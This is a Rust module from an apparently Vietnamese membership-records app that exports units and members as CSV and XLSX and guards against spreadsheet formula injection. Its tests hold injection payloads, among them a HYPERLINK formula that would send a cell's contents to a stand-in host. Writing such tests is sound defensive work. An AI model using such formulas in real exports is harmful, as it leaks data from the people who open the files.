//! A subtree's units and members as CSV (streamed, UTF-8 with a BOM so that
//! Excel reads the Vietnamese right) and XLSX (bold, frozen header row).
//!
//! Every CSV cell goes through [`csv_cell`]: a name or title starting with
//! `=`, `+`, `-` or `@` would otherwise run as a formula in a spreadsheet.
//! The XLSX writes text with `write_string`, which stores it as text, never
//! as a formula, so it is written as it is.

use super::{HttpError, kind_vi, vi};
use crate::blocking::Lane;
use app::domain::text::csv_cell;
use app::domain::{Gender, MemberStatus};
use app::store::DynStore;
use app::store::export::{ExportMember, ExportUnit, MemberCursor};
use app::store::model::Unit;
use axum::body::{Body, Bytes};
use chrono::{Datelike, NaiveDate};

/// Rows read from the database at a time.
pub const PAGE: i64 = 1_000;
/// Rows of an XLSX sheet at most (Excel's limit, less the header).
pub const XLSX_ROWS: usize = 1_048_575;
const BOM: &[u8] = "\u{feff}".as_bytes();

pub const UNIT_HEADERS: [&str; 8] = [
    "Mã đơn vị",
    "Tên đơn vị",
    "Loại đơn vị",
    "Mã đơn vị cấp trên",
    "Đảng viên chính thức",
    "Đảng viên dự bị",
    "Bí thư",
    "Ngày thành lập",
];
pub const MEMBER_HEADERS: [&str; 9] = [
    "Số thẻ đảng viên",
    "Họ và tên",
    "Giới tính",
    "Ngày sinh",
    "Ngày vào Đảng",
    "Trạng thái",
    "Mã chi bộ",
    "Tên chi bộ",
    "Chức vụ",
];
const UNIT_WIDTHS: [f64; 8] = [14.0, 50.0, 22.0, 16.0, 12.0, 12.0, 28.0, 14.0];
const MEMBER_WIDTHS: [f64; 9] = [14.0, 28.0, 9.0, 12.0, 13.0, 15.0, 14.0, 44.0, 32.0];

pub fn date_vi(d: NaiveDate) -> String {
    format!("{:02}/{:02}/{:04}", d.day(), d.month(), d.year())
}

fn gender_vi(g: Gender) -> &'static str {
    app::labels::gender_label(g, vi())
}

fn status_vi(s: MemberStatus) -> &'static str {
    app::labels::status_label(s, vi())
}

fn unit_record(u: &ExportUnit) -> [String; 8] {
    [
        u.code.clone(),
        u.name.clone(),
        kind_vi(u.kind).to_string(),
        u.parent_code.clone().unwrap_or_default(),
        u.full_members.to_string(),
        u.probationary_members.to_string(),
        u.secretary.clone().unwrap_or_default(),
        date_vi(u.valid_from),
    ]
}

fn member_record(m: &ExportMember) -> [String; 9] {
    [
        m.card_number.clone(),
        m.full_name.clone(),
        gender_vi(m.gender).to_string(),
        date_vi(m.birth_date),
        date_vi(m.admission_date),
        status_vi(m.status).to_string(),
        m.cell_code.clone(),
        m.cell_name.clone(),
        m.job_title.clone(),
    ]
}

/// One CSV line, every cell neutralised. All of them, not only the free
/// text: one rule that no new column can miss. The app's own cells here are
/// counts and dates, which never start with a character it changes.
fn write_line<W: std::io::Write>(w: &mut csv::Writer<W>, cells: &[impl AsRef<str>]) {
    // Writing to memory cannot fail.
    for cell in cells {
        let _ = w.write_field(csv_cell(cell.as_ref()).as_bytes());
    }
    let _ = w.write_record(None::<&[u8]>);
}

/// CSV lines of `records` (with the BOM and `header` first when given).
fn csv_bytes<const N: usize>(header: Option<&[&str; N]>, records: &[[String; N]]) -> Vec<u8> {
    let mut out = Vec::new();
    if header.is_some() {
        out.extend_from_slice(BOM);
    }
    {
        let mut w = csv::Writer::from_writer(&mut out);
        if let Some(h) = header {
            write_line(&mut w, h);
        }
        for r in records {
            write_line(&mut w, r);
        }
        let _ = w.flush();
    }
    out
}

/// Streams pages of rows: `fetch(cursor)` gives a page and the cursor after
/// it (`None` at the end).
fn stream_csv<const N: usize, C, F, Fut>(header: &'static [&'static str; N], fetch: F) -> Body
where
    C: Send + 'static,
    F: Fn(Option<C>) -> Fut + Send + Sync + 'static,
    Fut: std::future::Future<Output = Result<(Vec<[String; N]>, Option<C>), HttpError>> + Send,
{
    let fetch = std::sync::Arc::new(fetch);
    // State: None at the end; else (first page?, cursor).
    let stream = futures_util::stream::unfold(Some((true, None::<C>)), move |state| {
        let fetch = fetch.clone();
        async move {
            let (first, cursor) = state?;
            match fetch(cursor).await {
                // A page's formatting takes well under a millisecond: it
                // stays here, between two reads.
                Ok((records, next)) => {
                    let bytes = csv_bytes(first.then_some(header), &records);
                    let state = next.map(|c| (false, Some(c)));
                    Some((Ok::<_, std::io::Error>(Bytes::from(bytes)), state))
                }
                Err(e) => {
                    tracing::error!(error = ?e, "CSV export failed mid-stream");
                    Some((Err(std::io::Error::other("export failed")), None))
                }
            }
        }
    });
    // Fused: body layers (compression) may poll once more after the end.
    Body::from_stream(futures_util::StreamExt::fuse(stream))
}

/// The subtree's current units, root first, in path order.
pub fn units_csv(store: DynStore, root: Unit) -> Body {
    let root = std::sync::Arc::new(root);
    stream_csv(&UNIT_HEADERS, move |after: Option<String>| {
        let (store, root) = (store.clone(), root.clone());
        async move {
            let rows = store.export_units(&root, after.as_deref(), PAGE).await?;
            let next = (rows.len() as i64 == PAGE)
                .then(|| rows.last().map(|u| u.path.clone()))
                .flatten();
            Ok((rows.iter().map(unit_record).collect(), next))
        }
    })
}

/// The subtree's active members, by cell and name.
pub fn members_csv(store: DynStore, root: Unit) -> Body {
    let root = std::sync::Arc::new(root);
    stream_csv(&MEMBER_HEADERS, move |after: Option<MemberCursor>| {
        let (store, root) = (store.clone(), root.clone());
        async move {
            let rows = store.export_members(&root, after.as_ref(), PAGE).await?;
            let next = (rows.len() as i64 == PAGE)
                .then(|| rows.last().map(|m| m.cursor.clone()))
                .flatten();
            Ok((rows.iter().map(member_record).collect(), next))
        }
    })
}

type XlsxResult = Result<(), rust_xlsxwriter::XlsxError>;

/// A real date cell, shown dd/mm/yyyy.
fn write_date(
    ws: &mut rust_xlsxwriter::Worksheet,
    row: u32,
    col: u16,
    d: NaiveDate,
    format: &rust_xlsxwriter::Format,
) -> XlsxResult {
    use rust_xlsxwriter::ExcelDateTime;
    match ExcelDateTime::from_ymd(d.year() as u16, d.month() as u8, d.day() as u8) {
        Ok(dt) => ws
            .write_datetime_with_format(row, col, &dt, format)
            .map(|_| ()),
        Err(_) => ws.write_string(row, col, date_vi(d)).map(|_| ()),
    }
}

fn unit_row(
    ws: &mut rust_xlsxwriter::Worksheet,
    row: u32,
    u: &ExportUnit,
    date: &rust_xlsxwriter::Format,
) -> XlsxResult {
    ws.write_string(row, 0, &u.code)?;
    ws.write_string(row, 1, &u.name)?;
    ws.write_string(row, 2, kind_vi(u.kind))?;
    ws.write_string(row, 3, u.parent_code.as_deref().unwrap_or(""))?;
    ws.write_number(row, 4, u.full_members as f64)?;
    ws.write_number(row, 5, u.probationary_members as f64)?;
    ws.write_string(row, 6, u.secretary.as_deref().unwrap_or(""))?;
    write_date(ws, row, 7, u.valid_from, date)
}

fn member_row(
    ws: &mut rust_xlsxwriter::Worksheet,
    row: u32,
    m: &ExportMember,
    date: &rust_xlsxwriter::Format,
) -> XlsxResult {
    ws.write_string(row, 0, &m.card_number)?;
    ws.write_string(row, 1, &m.full_name)?;
    ws.write_string(row, 2, gender_vi(m.gender))?;
    write_date(ws, row, 3, m.birth_date, date)?;
    write_date(ws, row, 4, m.admission_date, date)?;
    ws.write_string(row, 5, status_vi(m.status))?;
    ws.write_string(row, 6, &m.cell_code)?;
    ws.write_string(row, 7, &m.cell_name)?;
    ws.write_string(row, 8, &m.job_title).map(|_| ())
}

fn xlsx_error(e: rust_xlsxwriter::XlsxError) -> HttpError {
    HttpError::Internal(e.to_string())
}

fn too_many() -> HttpError {
    HttpError::invalid(|s| s.export_err_use_csv)
}

/// A subtree's rows for its workbook, read before any is written.
pub struct SubtreeRows {
    pub units: Vec<ExportUnit>,
    /// `None`: no members sheet.
    pub members: Option<Vec<ExportMember>>,
}

/// The units sheet, and the members sheet when `members`: counted first
/// (a subtree too large is refused before it is read), then read and
/// zipped in a place on `lane`.
pub async fn subtree_xlsx(
    store: &DynStore,
    root: &Unit,
    members: bool,
    lane: &Lane,
) -> Result<Vec<u8>, HttpError> {
    let cap = XLSX_ROWS as i64;
    if store.count_export_units(root, cap + 1).await? > cap {
        return Err(too_many());
    }
    if members && store.count_export_members(root, cap + 1).await? > cap {
        return Err(too_many());
    }
    let place = lane.place().await?;
    let rows = subtree_rows(store, root, members).await?;
    super::in_place(place, move || subtree_workbook(&rows)).await
}

/// Every row of the subtree's workbook.
pub async fn subtree_rows(
    store: &DynStore,
    root: &Unit,
    members: bool,
) -> Result<SubtreeRows, HttpError> {
    Ok(SubtreeRows {
        units: all_units(store, root).await?,
        members: if members {
            Some(all_members(store, root).await?)
        } else {
            None
        },
    })
}

/// Every row of the walk, refused past a sheet's rows (rows may have been
/// added since the count).
async fn all_units(store: &DynStore, root: &Unit) -> Result<Vec<ExportUnit>, HttpError> {
    let mut rows: Vec<ExportUnit> = Vec::new();
    loop {
        let after = rows.last().map(|u| u.path.as_str());
        let page = store.export_units(root, after, PAGE).await?;
        let last = (page.len() as i64) < PAGE;
        rows.extend(page);
        if rows.len() > XLSX_ROWS {
            return Err(too_many());
        }
        if last {
            return Ok(rows);
        }
    }
}

async fn all_members(store: &DynStore, root: &Unit) -> Result<Vec<ExportMember>, HttpError> {
    let mut rows: Vec<ExportMember> = Vec::new();
    loop {
        let after = rows.last().map(|m| &m.cursor);
        let page = store.export_members(root, after, PAGE).await?;
        let last = (page.len() as i64) < PAGE;
        rows.extend(page);
        if rows.len() > XLSX_ROWS {
            return Err(too_many());
        }
        if last {
            return Ok(rows);
        }
    }
}

/// The workbook of `rows` (CPU work: run it on the blocking pool).
pub fn subtree_workbook(rows: &SubtreeRows) -> Result<Vec<u8>, HttpError> {
    use rust_xlsxwriter::{Format, Workbook, Worksheet};
    let bold = Format::new().set_bold();
    let date = Format::new().set_num_format("dd/mm/yyyy");
    let header = |ws: &mut Worksheet, names: &[&str], widths: &[f64]| {
        for (col, (name, width)) in names.iter().zip(widths).enumerate() {
            ws.write_string_with_format(0, col as u16, *name, &bold)?;
            ws.set_column_width(col as u16, *width)?;
        }
        ws.set_freeze_panes(1, 0)?;
        Ok::<_, rust_xlsxwriter::XlsxError>(())
    };
    let mut book = Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("Đơn vị").map_err(xlsx_error)?;
    header(ws, &UNIT_HEADERS, &UNIT_WIDTHS).map_err(xlsx_error)?;
    for (row, u) in (1u32..).zip(&rows.units) {
        unit_row(ws, row, u, &date).map_err(xlsx_error)?;
    }
    if let Some(members) = &rows.members {
        let ws = book.add_worksheet();
        ws.set_name("Đảng viên").map_err(xlsx_error)?;
        header(ws, &MEMBER_HEADERS, &MEMBER_WIDTHS).map_err(xlsx_error)?;
        for (row, m) in (1u32..).zip(members) {
            member_row(ws, row, m, &date).map_err(xlsx_error)?;
        }
    }
    book.save_to_buffer().map_err(xlsx_error)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_starts_with_a_bom_and_quotes_what_needs_it() {
        let rows = [["a,b".to_string(), "Điền \"X\"".to_string()]];
        let bytes = csv_bytes(Some(&["Mã", "Tên"]), &rows);
        assert!(bytes.starts_with(BOM));
        let text = String::from_utf8(bytes[BOM.len()..].to_vec()).unwrap();
        assert_eq!(text, "Mã,Tên\n\"a,b\",\"Điền \"\"X\"\"\"\n");
        // Later pages: no BOM, no header.
        assert_eq!(csv_bytes::<2>(None, &rows)[0], b'"');
    }

    #[test]
    fn csv_cells_that_would_run_as_formulas_are_text() {
        let rows = [[
            "=HYPERLINK(\"http://x/?\"&B2,\"x\")".to_string(),
            "@SUM(A1)".to_string(),
            "Chi bộ 1".to_string(),
        ]];
        let bytes = csv_bytes::<3>(None, &rows);
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        let record = r.records().next().unwrap().unwrap();
        assert_eq!(
            record.iter().collect::<Vec<_>>(),
            [
                "'=HYPERLINK(\"http://x/?\"&B2,\"x\")",
                "'@SUM(A1)",
                "Chi bộ 1"
            ]
        );
    }

    #[test]
    fn xlsx_text_that_looks_like_a_formula_stays_text() {
        use calamine::{Data, Reader};
        let formula = "=HYPERLINK(\"http://x/\",\"x\")";
        let unit = ExportUnit {
            code: "-A1".into(),
            name: formula.into(),
            kind: app::domain::UnitKind::Cell,
            parent_code: None,
            full_members: 1,
            probationary_members: 0,
            secretary: Some("+84".into()),
            valid_from: NaiveDate::from_ymd_opt(2020, 1, 1).unwrap(),
            path: "/1/".into(),
        };
        let bytes = subtree_workbook(&SubtreeRows {
            units: vec![unit],
            members: None,
        })
        .unwrap();
        let mut book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        let cells = book.worksheet_range("Đơn vị").unwrap();
        assert_eq!(cells.get((1, 0)), Some(&Data::String("-A1".into())));
        assert_eq!(cells.get((1, 1)), Some(&Data::String(formula.into())));
        assert_eq!(cells.get((1, 6)), Some(&Data::String("+84".into())));
        let formulas = book.worksheet_formula("Đơn vị").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
    }

    #[test]
    fn dates_are_day_month_year() {
        assert_eq!(
            date_vi(NaiveDate::from_ymd_opt(2020, 2, 4).unwrap()),
            "04/02/2020"
        );
    }
}
